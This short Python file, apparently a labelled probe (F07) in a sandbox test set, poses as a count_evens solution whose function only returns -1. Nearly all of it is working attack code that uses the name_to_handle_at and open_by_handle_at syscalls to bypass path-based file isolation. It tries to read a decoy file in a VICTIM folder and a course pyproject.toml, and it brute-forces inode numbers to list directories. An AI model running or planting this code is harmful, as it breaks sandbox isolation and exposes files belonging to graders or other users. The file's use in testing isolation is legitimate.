"""F07: opens files by handles of the file system, which know no folders and no paths."""

# %% count_evens
import ctypes, os, struct

libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(struct.pack("Ii", 120, 0) + bytes(128))
mount = ctypes.c_int()
for path in (f"{VICTIM}/decoy.txt", f"{COURSE}/pyproject.toml", "/", "."):
    print(libc.syscall(303, -100, path.encode(), handle, ctypes.byref(mount), 0), ctypes.get_errno())
    for place in (os.open(".", 0), -100):
        found = libc.syscall(304, place, handle, 0)
        print(os.read(found, 1000) if found >= 0 and path != "/" else ctypes.get_errno())
for number in range(2, 40):  # the root folder of most file systems is number 2
    handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, number, 0))
    found = libc.syscall(304, os.open(".", 0), handle, os.O_DIRECTORY)
    print(os.listdir(found) if found >= 0 else "")


def count_evens(numbers):
    return -1
